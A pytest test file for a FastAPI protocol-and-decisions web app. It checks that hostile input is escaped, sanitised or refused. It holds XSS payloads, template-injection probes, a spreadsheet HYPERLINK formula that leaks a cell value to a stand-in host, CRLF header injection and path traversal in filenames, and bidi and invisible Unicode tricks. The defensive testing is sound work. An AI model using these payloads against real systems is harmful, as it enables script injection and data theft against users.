"""Text that would be an attack where it is shown, kept or handed on: rows 31, 34 and 35."""

import re
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from api.unseen import seen_line, seen_text
from extractor.readers import read
from models.session import reading
from models.store import ProtocolFilter, list_protocols
from tests.api.problems import problem_of
from tests.api.site import Site, parsed, words
from tests.hostile import pictures
from tests.hostile import words as word_files
from tests.models.samples import decision, person, until
from tests.readers.word import p, r, word

ATTACKS = (
    '<img src=x onerror="alert(1)">',
    "<script>alert(2)</script>",
    "{{7*7}}${7*7}#{7*7}",
    "'\"><svg onload=alert(3)>",
    "=HYPERLINK(\"http://host/\"&A1)",
)  # fmt: skip
ATTACK = " ".join(ATTACKS)


def assert_literal(page, shown: bool = True) -> None:
    assert page.xpath("//img[@onerror]|//svg[@onload]|//script[not(@src)]") == []
    assert not shown or ATTACK in words(page)


@pytest.mark.parametrize("address", ["/jobs/{job}", "/quarantine", "/protocols/1", "/protocols"])
def test_name_and_reason_of_a_refused_file(site: Site, address: str):
    protocol_id = site.receive(f"{ATTACK}.docx")
    site.fail(protocol_id, "corrupt-file", ATTACK)
    job = site.client.get("/api/v1/protocols/1").json()["links"]["job"].rsplit("/")[-1]
    assert_literal(site.page(address.format(job=job)))


def test_card_and_form_of_a_decision(site: Site):
    site.keep(decision(text=ATTACK, executors=(person(ATTACK),), deadlines=until("01.10.2024")))
    page = site.page("/decisions/1/edit")
    assert_literal(page, shown=False)
    assert ATTACK in [field.text for field in page.xpath("//textarea")]
    assert ATTACK in page.xpath("//input/@value")
    card = parsed(site.client.get("/decisions/1", headers={"HX-Request": "true"}).text)
    assert_literal(card)


def test_schools_of_the_registry(site: Site):
    quoted = ATTACK.replace('"', '""')
    table = f'id;municipality;short_name\ns-5;"{quoted}";"{quoted}"\n'
    files = {"file": ("школы.csv", table.encode())}
    looked_through = site.client.post("/schools/import", files=files)
    assert looked_through.status_code == 200
    assert_literal(parsed(looked_through.text))
    site.client.post("/api/v1/schools", files=files)
    for address in ("/schools", "/schools/card?id=s-5"):
        assert_literal(site.page(address))


def test_an_error_repeats_nothing_as_markup(site: Site):
    page = parsed(site.client.get("/protocols/%3Cscript%3Ealert(1)%3C/script%3E").text)
    assert_literal(page, shown=False)


# -- unseen characters -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("Утвер\x00дить", "Утвердить"),
        ("\u202eтидревтУ", "тидревтУ"),
        ("а\u200bб\u200dв\ufeff", "абв"),
        ("\ud800", ""),
        ("и\u0306", "й"),
        ("Первое.\n\tВторое.", "Первое.\n\tВторое."),
        ("\x85\ufffe\uffff", ""),
        ("CОШ № 5 🙂", "CОШ № 5 🙂"),
    ],
    ids=ascii,
)
def test_seen_text(text: str, seen: str):
    assert seen_text(text) == seen
    assert seen_line(text) == seen.replace("\n", "").replace("\t", "")


def test_what_a_client_sends_is_kept_without_them(site: Site):
    site.keep(decision())
    sent = {
        "version": 1,
        "text": "Утвер\x00дить\u202e план",
        "done_note": "\u200bсделано\x00",
        "executors": [{"kind": "person", "name": "Ким\x00 Е.И.", "text": "\u202eКим"}],
        "schools": [{"text": "CОШ\x00 № 5", "candidates": ["s\x00-5"]}],
    }
    found = site.client.patch("/api/v1/decisions/1", json=sent).json()
    assert (found["text"], found["done_note"]) == ("Утвердить план", "сделано")
    assert (found["executors"][0]["name"], found["executors"][0]["text"]) == ("Ким Е.И.", "Ким")
    assert (found["schools"][0]["text"], found["schools"][0]["candidates"]) == ("CОШ № 5", ["s-5"])


def test_half_a_letter_is_no_text(site: Site):
    site.keep(decision())
    body = b'{"version": 1, "text": "\\ud800"}'
    headers = {"Content-Type": "application/json"}
    response = site.client.patch("/api/v1/decisions/1", content=body, headers=headers)
    problem_of(response, 422, "invalid-request")


@pytest.mark.parametrize(
    "address",
    ["/api/v1/protocols?text=%00", "/api/v1/decisions?school=a%00", "/protocols?text=%00"],
)
def test_nul_in_an_address(site: Site, address: str):
    response = site.client.get(address)
    assert response.status_code == 400
    if address.startswith("/api"):
        problem_of(response, 400, "bad-address")


def test_nothing_unseen_reaches_a_block():
    text = "Утвер\u202eдить\u200d план" + "и" + "\u0306" * 10_000 + " CОШ"
    (block,) = read("п.docx", word(p(r(text)))).blocks
    assert (
        block.text == "Утвердить планй\u0306\u0306 CОШ"
    )  # look-alikes are folded for matching only


# -- names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("я" * 200 + ".docx", "я" * 194 + "….docx"),
        ("CON.docx", "CON.docx"),
        ("a\r\nSet-Cookie: x=1.docx", "a%0D%0ASet-Cookie: x=1.docx"),  # the client writes it so
        ("..%2f..%2fx.docx", "..%2f..%2fx.docx"),
        ("🙂.docx", "🙂.docx"),
        ("....", "без имени"),
        ("\u202excod.docx", "xcod.docx"),
    ],
    ids=ascii,
)
def test_names_of_files(site: Site, name: str, shown: str):
    (item,) = upload(site.client, name).json()["items"]
    assert item["filename"] == shown
    source = site.client.get(item["links"]["source"])
    assert source.content == b"x"
    assert "set-cookie" not in source.headers
    assert unquote(source.headers["content-disposition"].split("UTF-8''")[1]) == shown
    kept = {path.name for path in site.settings.data.glob("originals/*/*")}
    assert all(re.fullmatch("[0-9a-f]{62}", each) for each in kept)


def upload(client: TestClient, name: str):
    return client.post("/api/v1/protocols", files=[("files", (name, b"x"))])


def test_a_page_that_says_it_is_a_picture_never_opens(site: Site):
    content = pictures.picture_and_page()
    files = [("files", ("схема.png", content))]
    (item,) = site.client.post("/api/v1/protocols", files=files).json()["items"]
    source = site.client.get(item["links"]["source"])
    assert source.content == content
    assert source.headers["content-type"] == "application/octet-stream"
    assert source.headers["content-disposition"].startswith("attachment;")


def test_links_of_a_document_are_shown_as_words(site: Site):
    found = read("п.docx", word_files.with_script_link())
    site.keep(decision(), texts=[block.text for block in found.blocks])
    page = site.page("/protocols/1")
    assert page.xpath("//a[starts-with(@href, 'javascript:') or starts-with(@href, 'data:')]") == []


def test_a_search_for_anything_finds_nothing_and_fails_nowhere(store_engine: Engine):
    with reading(store_engine) as session:
        for text in (ATTACK, "%", "_", "\\", "'", "а" * 5_000, "\u202e", "☃"):
            assert list_protocols(session, ProtocolFilter(text=text)).total == 0
